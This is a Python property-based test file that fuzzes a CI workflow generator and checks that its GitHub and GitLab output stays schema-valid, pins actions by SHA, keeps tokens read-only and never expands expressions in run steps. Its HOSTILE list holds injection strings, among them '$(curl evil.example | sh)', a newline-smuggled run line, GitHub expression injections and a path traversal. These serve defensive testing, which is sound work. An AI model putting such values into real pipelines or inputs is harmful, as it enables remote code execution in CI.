"""For any mix of stacks, versions, subprojects and hostile strings a Report may carry, the
generated CI is schema-valid, pins every action, keeps the token read-only and never
expands an expression inside `run:`."""

from __future__ import annotations

import re
from typing import Any

import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from libs.analysis.report import Command, Fact, Report, RuntimeVersion, Stack, Subproject
from libs.cigen import Generation, NothingToGenerate, generate
from libs.cigen.validate.schema import parse_yaml

HOSTILE = [
    "${{ github.event.issue.title }}",
    "${{ github.event.pull_request.head.ref }}",
    "$(curl evil.example | sh)",
    "a\nrun: curl evil",
    "with space",
    "../escape",
    "",
]
PATHS = [".", "api", "web", "services/api", "packages/ui", "crates/engine", "a.b", "x_y", *HOSTILE]
MANAGERS = [
    "pip",
    "uv",
    "poetry",
    "pdm",
    "pipenv",
    "hatch",
    "npm",
    "pnpm",
    "yarn",
    "bun",
    "go",
    "cargo",
    "maven",
    "gradle",
    "bundler",
    "composer",
    "nuget",
    "mix",
    "swiftpm",
    "pub",
    "flutter",
    "sbt",
    "cmake",
    "make",
    "deno",
    "conda",
    "unknown-manager",
]
RUNTIMES = [
    "python",
    "node",
    "go",
    "rust",
    "java",
    "ruby",
    "php",
    "dotnet",
    "elixir",
    "erlang",
    "swift",
    "bun",
    "dart",
    "flutter",
    "pnpm",
    "rust-edition",
]
VERSIONS = [
    "3.12",
    "3.12.4",
    ">=3.10",
    "^3.9",
    ">=3.8,<3.10",
    "~> 3.2",
    "^8.1",
    "20",
    "v20.11.1",
    "lts/iron",
    "lts/*",
    ">=18",
    "^20 || ^22",
    "18.x",
    "1.22",
    "go1.22.4",
    "1.74",
    "stable",
    "21",
    "1.8",
    "net8.0;net9.0",
    "8.0.100",
    "~> 1.15",
    "26.2.5",
    "5.10",
    "latest",
    "*",
    "3.12.1 3.11.7",
    *HOSTILE,
]
TOOLS = [
    "ruff",
    "mypy",
    "black",
    "flake8",
    "eslint",
    "prettier",
    "typescript",
    "biome",
    "golangci-lint",
    "clippy",
    "rustfmt",
    "spotless",
    "checkstyle",
    "rubocop",
    "phpstan",
    "pint",
    "credo",
    "mix format",
    "dialyzer",
    "dotnet-format",
    "scalafmt",
    "sorbet",
    "something-else",
]
TESTS = [
    "pytest",
    "unittest",
    "jest",
    "vitest",
    "mocha",
    "playwright",
    "bun test",
    "node:test",
    "go test",
    "cargo test",
    "junit5",
    "rspec",
    "minitest",
    "phpunit",
    "pest",
    "exunit",
    "xunit",
    "xctest",
    "ctest",
    "googletest",
    "make test",
    "flutter test",
    "dart test",
]
SERVICES = [
    "postgres",
    "redis",
    "mysql",
    "mariadb",
    "mongodb",
    "rabbitmq",
    "memcached",
    "kafka",
    "elasticsearch",
]
COMMANDS = [
    "make test",
    "npm test",
    "pnpm run lint",
    "poe lint",
    "just test",
    "npm run format",
    "eslint --fix .",
    "composer run-script test",
    "cargo xtask ci",
    *HOSTILE,
]
LOCKS = [
    "uv.lock",
    "poetry.lock",
    "package-lock.json",
    "pnpm-lock.yaml",
    "yarn.lock",
    "go.sum",
    "Cargo.lock",
    "Gemfile.lock",
    "composer.lock",
    "mix.lock",
    "requirements.txt",
    "packages.lock.json",
    "Package.resolved",
    *HOSTILE,
]

text = st.text(max_size=25)
version = st.one_of(st.sampled_from(VERSIONS), text)


def fact(names: list[str]) -> st.SearchStrategy[Fact]:
    return st.builds(
        Fact,
        name=st.one_of(st.sampled_from(names), text),
        source=st.one_of(st.sampled_from(["package.json", "pyproject.toml", ".yarnrc.yml"]), text),
        version=st.one_of(st.none(), version),
        configured=st.booleans(),
    )


subprojects = st.builds(
    Subproject,
    path=st.one_of(st.sampled_from(PATHS), text),
    manifests=st.lists(
        st.sampled_from(["pyproject.toml", "package.json", "gradlew", "mvnw"]), max_size=2
    ),
    package_managers=st.lists(fact(MANAGERS), min_size=1, max_size=3),
    lockfiles=st.lists(st.one_of(st.sampled_from(LOCKS), text), max_size=3),
    frameworks=st.lists(fact(["Django", "Rails", "Laravel", "Spring Boot", "Next.js"]), max_size=2),
    test_frameworks=st.lists(fact(TESTS), max_size=3),
    tools=st.lists(fact(TOOLS), max_size=4),
    services=st.lists(fact(SERVICES), max_size=3),
    runtimes=st.lists(
        st.builds(
            RuntimeVersion,
            runtime=st.sampled_from(RUNTIMES),
            version=version,
            source=st.sampled_from(
                [".python-version", ".nvmrc", "pyproject.toml", "go.mod", "Cargo.toml"]
            ),
            field=st.sampled_from(
                [None, "toolchain", "package.rust-version", "TargetFrameworks", "sdk.version"]
            ),
        ),
        max_size=4,
    ),
    commands=st.lists(
        st.builds(
            Command,
            purpose=st.sampled_from(["test", "lint", "typecheck", "format", "build"]),
            run=st.one_of(st.sampled_from(COMMANDS), text),
            source=st.just("Makefile"),
        ),
        max_size=3,
    ),
    dockerfiles=st.lists(st.sampled_from(["Dockerfile", "Dockerfile.dev", *HOSTILE]), max_size=2),
    workspace_root=st.one_of(st.none(), st.sampled_from(PATHS)),
)
reports = st.builds(
    lambda subs, docker: Report(stack=Stack(subprojects=subs, dockerfiles=docker)),
    st.lists(subprojects, min_size=1, max_size=5),
    st.lists(
        st.sampled_from(["Dockerfile", "web/Dockerfile", "docker/api.Dockerfile", *HOSTILE]),
        max_size=2,
    ),
)
_SHA_PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")


def _generate(report: Report, platform: str) -> Generation:
    try:
        return generate(report, platform=platform, linters=False)
    except NothingToGenerate:
        assume(False)
        raise


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def _schema_and_policy_pass(generation: Generation) -> None:
    assert generation.validation.findings == []
    ran = {v.name: v.status for v in generation.validation.validators}
    assert ran["schema"] == "passed"
    assert ran["policy"] == "passed"


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_github_workflows_always_validate_and_stay_hardened(report: Report) -> None:
    generation = _generate(report, "github")
    _schema_and_policy_pass(generation)
    workflow = parse_yaml(generation.content)
    assert workflow["permissions"] == {"contents": "read"}
    assert "pull_request_target" not in workflow["on"]
    for job in workflow["jobs"].values():
        assert isinstance(job["timeout-minutes"], int)
    for step in _steps(workflow):
        if "uses" in step:
            assert _SHA_PINNED.match(step["uses"]), step["uses"]
        if "run" in step:
            assert "${{" not in step["run"]
    assert "${{ github.event.issue" not in generation.content
    assert "${{ github.event.pull_request.head" not in generation.content


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_gitlab_pipelines_always_validate_and_read_the_same_in_yaml_1_1(report: Report) -> None:
    generation = _generate(report, "gitlab")
    _schema_and_policy_pass(generation)
    assert yaml.safe_load(generation.content) == parse_yaml(generation.content)
    assert "${{" not in generation.content


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_zizmor_finds_nothing_in_arbitrary_generated_workflows(report: Report) -> None:
    try:
        generation = generate(report)
    except NothingToGenerate:
        assume(False)
        raise
    assert generation.validation.findings == []
    assert generation.valid
